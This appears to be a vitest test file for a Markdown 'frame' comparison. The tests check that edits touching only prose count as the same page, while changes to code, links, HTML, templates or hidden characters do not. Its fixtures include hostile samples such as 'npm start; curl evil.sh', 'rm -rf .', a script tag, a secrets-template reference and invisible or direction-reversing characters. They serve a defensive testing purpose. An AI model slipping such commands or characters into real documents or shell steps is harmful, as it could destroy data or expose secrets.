import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { samples } from '../../../test/support/samples.ts';
import { markdownFrame } from './markdown-frame.ts';

const page = `# Shares

A share is what *one* person pays, as \`share\` tells. See [the guide](guide.md).

- first of all
- and then

| Name | Pays |
| --- | --- |
| Ana | half of it |

\`\`\`sh
npm start
\`\`\`
`;
const isSame = (then: string, now: string) => {
  const [one, other] = [markdownFrame(then), markdownFrame(now)];
  return one !== null && other !== null && JSON.stringify(one) === JSON.stringify(other);
};

describe('the frame of a Markdown text', () => {
  it.each([
    ['a word', page.replace('one', 'each')],
    ['a section of prose', `${page}\n## Rounding\n\nIt is rounded down.\n`],
    ['an item', page.replace('- and then', '- and then\n- at last')],
    ['a cell of a table', page.replace('half of it', 'all of it')],
    ['a paragraph more', page.replace('- first', 'It is rounded down, to whole cents (see below).\n\n- first')],
    ['words beside code and a link', page.replace('See', 'Have a look at')],
    ['line breaks', page.replace('A share is', 'A\nshare\nis')],
  ])('is as it was where only prose differs: %s', (_, now) => expect(isSame(page, now)).toBe(true));

  it.each([
    ['code of a block', page.replace('npm start', 'npm start; curl evil.sh')],
    ['the language of a block', page.replace('```sh', '```js')],
    ['code in a line', page.replace('`share`', '`shares`')],
    ['the address of a link', page.replace('(guide.md)', '(https://evil.example)')],
    ['a link more', page.replace('one', '[one](x.md)')],
    ['the title of a link', page.replace('(guide.md)', '(guide.md "Pay here")')],
    ['a picture', page.replace('one', '![one](x.png)')],
    ['an address by itself', page.replace('one', 'https://evil.example')],
    ['an address without a scheme', page.replace('one', 'www.evil.example')],
    ['an autolink', page.replace('one', '<https://evil.example>')],
    ['a mail address', page.replace('one', 'ana@evil.example')],
    ['a mention', page.replace('one', '@ana')],
    ['a definition', `${page}\n[guide]: https://evil.example\n`],
    ['a footnote', page.replace('one', 'one[^1]')],
    ['HTML', page.replace('one', '<b>one</b>')],
    ['a block of HTML', `${page}\n<script>alert(1)</script>\n`],
    ['a comment', `${page}\n<!-- prettier-ignore -->\n`],
    ['a comment that takes something out of sight', page.replace('- first', '<!--\n- first')],
    ['a template', page.replace('one', '{{ secrets.TOKEN }}')],
    ['a tag of a template', page.replace('one', '{% include x %}')],
    ['attributes of a block', page.replace('- and then', '- and then\n{: .wide}')],
    ['an entity that is one of these signs', page.replace('one', '&lt;script&gt; and &#123;&#123;')],
    ['an import of MDX', page.replace('A share', "import x from './x.js'\n\nA share")],
    ['an export of MDX', page.replace('A share', 'export const a = 1\n\nA share')],
    ['a prompt of Python', page.replace('A share', '>>> share(1)\n2\n\nA share')],
    ['a prompt of a shell', page.replace('A share', '$ share *1*\n2\n\nA share')],
    ['a box of MkDocs', page.replace('A share', '!!! note\n    text\n\nA share')],
    ['a snippet of MkDocs', page.replace('A share', '--8<-- "x.md"\n\nA share')],
    ['a directive of MyST', page.replace('A share', ':::{include} x.md\n:::\n\nA share')],
    ['a formula', page.replace('one', '$x$')],
    ['a formula of another dialect', page.replace('one', '\\(x\\)')],
    ['an indented block', page.replace('A share', 'Thus:\n\n    rm -rf .\n\nA share')],
    ['a fence that takes prose in', page.replace('- first', '```\n- first')],
    ['a fence that lets code out', page.replace('```sh\n', '').replace(/```\n$/u, '')],
    ['a sign that is not seen', page.replace('one', 'o\u200bne')],
    ['a sign that turns the line', page.replace('one', '\u202eone')],
    ['a tag that only a model reads', page.replace('one', 'one\u{e0041}')],
    ['an emoji', page.replace('one', '\u{1f600}')],
    ['a task', page.replace('- first', '- [x] first')],
    ['settings in the middle', page.replace('- first', '---\ntitle: x\n---\n\n- first')],
    ['settings that end in dots', page.replace('- first', '---\ntitle: x\n...\n\n- first')],
    ['a directive of a template', page.replace('one', '#parse(x)')],
    ['an include', page.replace('A share', '!include x.puml\n\nA share')],
    ['a rule across the page', page.replace('- first', '***\n\n- first')],
    ['a property of a page', page.replace('A share', 'public:: true\n\nA share')],
    ['a setting', page.replace('A share', 'Requires: deploy\n\nA share')],
    ['a name of a host', page.replace('one', 'evil.example')],
    ['the title above code', page.replace('# Shares', '# Shares of all')],
    ['another heading above code', page.replace('```sh', '## Deploy\n\n```sh')],
    ['code that is taken into a quotation', page.replace('```sh\nnpm start\n```', '> ```sh\n> npm start\n> ```')],
    ['code that is taken into a list', page.replace('```sh\nnpm start\n```', '- so:\n\n  ```sh\n  npm start\n  ```')],
    ['other signs around code', page.replaceAll('```', '~~~')],
    ['a command of a forge', page.replace('A share', '/close\n\nA share')],
  ])('differs with %s', (_, now) => {
    expect(now).not.toBe(page);
    expect(isSame(page, now)).toBe(false);
    expect(isSame(now, page)).toBe(false);
  });

  it('has the words of a prompt for which a document may be tested, whoever writes them first', () => {
    const then = page.replace('A share', '>>> share(1)\n2\n\nA share');
    expect(isSame(then, then.replace('\n2\n', '\n3\n'))).toBe(false);
  });

  it.each(['---\nlayout: x\n---\n\ntext\n', '+++\ntitle = "x"\n+++\n', '{"title": "x"}\n', '% title\n'])(
    'is not told of what begins as a configuration: %j',
    (text) => expect(markdownFrame(text)).toBeNull(),
  );

  it('has settings in the middle of a text, whoever writes them first', () => {
    const before = page.replace('- first', '---\ntitle: x\n---\n\n- first');
    expect(isSame(before, before.replace('title: x', 'filters: y'))).toBe(false);
    expect(isSame(before, before.replace('one', 'each'))).toBe(true);
  });

  it('has the names of tasks, and the answers to prompts', () => {
    const tasks =
      '# Shares\n\n## Tasks\n\n### deploy\n\nIt goes out.\n\n```sh\nnpm start\n```\n\n## Words\n\nNo code.\n';
    expect(isSame(tasks, tasks.replace('### deploy', '### test'))).toBe(false);
    expect(isSame(tasks, tasks.replace('## Tasks', '## Other'))).toBe(false);
    expect(isSame(tasks, tasks.replace('goes out', 'is sent out'))).toBe(true);
    expect(isSame(tasks, tasks.replace('## Words', '## More words'))).toBe(true);
    const asked = '# Shares\n\n>>> share\n- one\n\n- two\n';
    expect(isSame(asked, asked.replace('- one', '- all'))).toBe(false);
  });

  it('has the headings above whatever a runner could take for a task', () => {
    const tasks = '# Shares\n\n## Tasks\n\n### deploy\n\nRequires: build\n\n### check\n\nRequires: lint\n';
    const swapped = tasks
      .replace('### deploy', '### x')
      .replace('### check', '### deploy')
      .replace('### x', '### check');
    expect(isSame(tasks, swapped)).toBe(false);
    expect(isSame('# Shares\n\n## One\n\nWords.\n', '# Shares\n\n## All\n\nWords.\n')).toBe(true);
  });

  it.each([['<!-- skip -->'], ['[//]: # (skip)']])('has what stands behind an order that is hidden: %s', (order) => {
    const then = `# Shares\n\nWords.\n\n${order}\n\n\`\`\`sh\nrm x\n\`\`\`\n\nMore.\n`;
    expect(isSame(then, then.replace(order, `${order}\n\nOther words.`))).toBe(false);
    expect(isSame(then, then.replace('Words.', 'Words.\n\nOther words.'))).toBe(true);
    expect(isSame(then, then.replace('More.', 'Other words.'))).toBe(true);
  });

  it('tells code that is indented from code between signs', () => {
    const then = '# Shares\n\nThus:\n\n    rm x\n\nSo it is.\n';
    expect(isSame(then, then.replace('    rm x', '```\nrm x\n```'))).toBe(false);
  });

  it('has what programs read in the first lines', () => {
    expect(isSame('Title: Shares\nStatus: draft\n\nText.\n', 'Title: Shares\nStatus: published\n\nText.\n')).toBe(
      false,
    );
    expect(isSame(`Plain words.\n\n${page}`, `Other words.\n\n${page}`)).toBe(false);
  });

  it('is not told of a text that takes long to parse', () => {
    expect(markdownFrame('a'.repeat(70_000))).toBeNull();
    expect(markdownFrame('*a'.repeat(10_000))).toBeNull();
    expect(markdownFrame('\n'.repeat(3_000))).toBeNull();
  });

  it('changes with any sign that programs take for more than prose, in whatever word it is put', () => {
    const sign = fc.constantFrom(...'<{}[]@$`\\^~=%\u200b\u202e\0', '://', 'www.', ':::', '!!!');
    const inWord = fc.constantFrom(...[...page.matchAll(/(?<=[a-z])(?=[a-z])/gu)].map(({ index }) => index));
    fc.assert(
      fc.property(sign, inWord, (put, place) => {
        const now = page.slice(0, place) + put + page.slice(place);
        expect(isSame(page, now)).toBe(false);
      }),
      { numRuns: samples(2_000, 40) },
    );
  });
});
